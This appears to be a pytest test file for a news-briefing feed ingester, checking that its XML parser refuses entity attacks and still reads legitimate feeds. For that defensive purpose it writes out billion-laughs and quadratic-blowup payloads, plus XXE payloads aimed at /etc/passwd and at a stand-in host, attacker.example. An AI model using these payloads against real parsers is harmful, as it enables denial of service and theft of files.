"""Untrusted XML: entity attacks are refused with a named reason, nothing is expanded, read
from disk or fetched; honest feeds (HTML entities, odd encodings, external DTDs) still parse.

Every hostile file is made here, by the test, so that what it holds is in plain view.
"""

from __future__ import annotations

import socket
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from briefing.ingest.pipeline import read_articles, run_import
from briefing.ingest.readers import ReadError
from briefing.ingest.safe_xml import (
    ENTITY_REFUSAL,
    UnsafeXml,
    XmlError,
    decode_xml,
    parse_xml,
    refuse_entity_declarations,
    replace_html_entities,
)
from briefing.store import Store

_INTERNET = {socket.AF_INET, socket.AF_INET6}


@pytest.fixture
def network_attempts(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Every internet socket blocked and every attempt recorded (as in test_no_network)."""
    tried: list[str] = []
    real_connect = socket.socket.connect

    def connect(self: socket.socket, address: object) -> object:
        if self.family in _INTERNET:
            tried.append(f"connect {address}")
            raise OSError("network blocked by test")
        return real_connect(self, address)

    def no_lookup(*args: object, **kwargs: object) -> object:
        tried.append(f"getaddrinfo {args[:2]}")
        raise OSError("network blocked by test")

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket, "getaddrinfo", no_lookup)
    monkeypatch.setattr(socket, "gethostbyname", no_lookup)
    yield tried


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><item><title>&lol9;</title>
<description>A story.</description></item></channel></rss>
"""


def quadratic_blowup() -> bytes:
    # One big entity referenced many times: no nesting, still gigabytes once expanded.
    big = "A" * 100_000
    refs = "&big;" * 10_000
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY big "{big}">]>\n'
        f"<rss><channel><item><title>t</title><description>{refs}</description></item>"
        f"</channel></rss>"
    ).encode()


def external_entity(target: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{target}">]>\n'
        f"<rss><channel><item><title>&xxe;</title><description>&xxe;</description></item>"
        f"</channel></rss>"
    ).encode()


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        quadratic_blowup(),
        external_entity("file:///etc/passwd"),
        external_entity("http://attacker.example/steal?x=1"),
        # A parameter entity pulling in a remote DTD.
        b'<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'
        b"<rss/>",
    ],
    ids=["billion-laughs", "quadratic-blowup", "xxe-file", "xxe-http", "parameter-entity"],
)
def test_entity_attacks_are_refused_with_a_named_reason(
    data: bytes, network_attempts: list[str]
) -> None:
    started = time.perf_counter()
    with pytest.raises(UnsafeXml) as refused:
        parse_xml(data)
    assert str(refused.value) == ENTITY_REFUSAL
    assert "root:" not in str(refused.value)
    assert time.perf_counter() - started < 1  # refused, not expanded
    assert network_attempts == []


def test_a_local_file_named_by_an_entity_is_never_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT", encoding="utf-8")
    feed = tmp_path / "feed.rss"
    feed.write_bytes(external_entity(secret.as_uri()))
    with pytest.raises(ReadError) as refused:
        read_articles(feed)
    assert str(refused.value) == ENTITY_REFUSAL
    assert "TOP-SECRET" not in str(refused.value)


def test_an_external_dtd_is_neither_loaded_nor_fetched(
    tmp_path: Path, network_attempts: list[str]
) -> None:
    # A DTD on disk that would define &secret; if it were loaded.
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY secret "LOADED-FROM-DISK">', encoding="utf-8")
    local = parse_xml(f'<!DOCTYPE r SYSTEM "{dtd.as_uri()}"><r>a &secret; b</r>'.encode())
    assert "LOADED-FROM-DISK" not in "".join(local.root.itertext())
    # RSS 0.91's DOCTYPE names Netscape's DTD on the web: the feed reads, nothing is fetched.
    remote = parse_xml(
        b'<?xml version="1.0" encoding="ISO-8859-1"?>\n'
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
        b'  "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
        b'<rss version="0.91"><channel><title>Caf\xe9 &eacute;t\xe9</title></channel></rss>',
        html_entities=True,
    )
    assert remote.root.findtext("channel/title") == "Café été"
    assert not remote.recovered
    assert network_attempts == []


@pytest.mark.parametrize(
    "data",
    [
        # A tag inside a comment before the DOCTYPE must not end the prolog scan early.
        b'<?xml version="1.0"?><!-- <b>note</b> --><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>',
        # Nor a ">" or "]>" inside a quoted default value in the internal subset.
        b'<!DOCTYPE r [<!ATTLIST r a CDATA "]> <b>"><!ENTITY x SYSTEM "http://a.example/">]>'
        b"<r>&x;</r>",
        # Lower case is not valid XML, but a recovering parser must not be trusted with it.
        b'<!doctype r [<!entity x "y">]><r>&x;</r>',
        # UTF-16 (with its mark): the check runs on decoded text, not on bytes.
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>'.encode(
            "utf-16"
        ),
    ],
    ids=["comment-before-doctype", "quoted-gt-in-subset", "lower-case", "utf-16"],
)
def test_entity_declarations_cannot_hide_from_the_prolog_check(data: bytes) -> None:
    # The check before parsing, on its own (parse_xml checks the parsed DTD again).
    with pytest.raises(UnsafeXml):
        refuse_entity_declarations(decode_xml(data))
    with pytest.raises(UnsafeXml):
        parse_xml(data)


def test_an_article_about_xxe_is_not_refused() -> None:
    # Analysts read about these attacks: "<!ENTITY" in an entry's CDATA is text, not a DTD.
    parsed = parse_xml(
        b"<rss><channel><item><title>XXE explained</title><description><![CDATA["
        b'<pre>&lt;!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]&gt;</pre>'
        b"]]></description></item></channel></rss>"
    )
    assert "<!ENTITY xxe" in parsed.root.findtext("channel/item/description", "")


def test_html_entities_become_characters_and_xml_ones_stay() -> None:
    assert replace_html_entities("Caf&eacute;&nbsp;&amp; &lt;b&gt; &mdash; &bogus;") == (
        "Caf&#233;&#160;&amp; &lt;b&gt; &#8212; &bogus;"
    )
    parsed = parse_xml(b"<r>Caf&eacute;&nbsp;&amp;&#32;bar &lt;b&gt;</r>", html_entities=True)
    assert parsed.root.text == "Café\u00a0& bar <b>"


def test_encodings_declared_mislabelled_and_marked() -> None:
    assert "Москва" in decode_xml(
        '<?xml version="1.0" encoding="windows-1251"?><r>Москва</r>'.encode("cp1251")
    )
    # cp1252 bytes in a file that says UTF-8: read, not mangled into replacement characters.
    mislabelled = '<?xml version="1.0" encoding="UTF-8"?><r>Minister’s café</r>'.encode("cp1252")
    assert "Minister’s café" in decode_xml(mislabelled)
    assert "Noël" in decode_xml('<?xml version="1.0"?><r>Noël</r>'.encode("utf-16"))


def test_what_is_not_xml_says_so() -> None:
    with pytest.raises(XmlError, match="empty file"):
        parse_xml(b"   \n")
    with pytest.raises(XmlError, match="not XML: nothing could be parsed"):
        parse_xml(b"just some words, no markup at all")


def test_a_truncated_document_is_recovered_and_says_so() -> None:
    parsed = parse_xml(b"<rss><channel><item><title>One</title></item><item><title>Tw")
    assert parsed.recovered
    assert [t.text for t in parsed.root.iter("title")] == ["One", "Tw"]
    with pytest.raises(XmlError, match="not well-formed XML"):
        parse_xml(b"<rss><channel><item><title>One</title></item><item><title>Tw", recover=False)


def test_import_of_hostile_feeds_names_each_and_imports_the_rest(
    store: Store, tmp_path: Path, network_attempts: list[str]
) -> None:
    (tmp_path / "laughs.rss").write_bytes(BILLION_LAUGHS)
    (tmp_path / "xxe.xml").write_bytes(external_entity("http://attacker.example/x"))
    (tmp_path / "fine.rss").write_bytes(
        b"<rss><channel><item><title>Talks resume in Vienna</title>"
        b"<description>Diplomats met in Vienna on Monday.</description></item></channel></rss>"
    )
    report = run_import(store, [tmp_path], extract=False)
    assert {Path(f.path).name: f.reason for f in report.failures} == {
        "laughs.rss": ENTITY_REFUSAL,
        "xxe.xml": ENTITY_REFUSAL,
    }
    assert report.imported == 1
    assert network_attempts == []


def test_a_subset_of_a_million_tags_without_its_bracket_is_scanned_once() -> None:
    """Between the subset's declarations the prolog scan looked for "]" again from every "<":
    a million "<" and no "]" meant a million searches to the end (minutes)."""
    text = "<!DOCTYPE x [" + "<" * 1_000_000 + '<!ENTITY a "b">'
    started = time.perf_counter()
    with pytest.raises(UnsafeXml):
        refuse_entity_declarations(text)
    assert time.perf_counter() - started < 5  # a hang guard, not a speed test
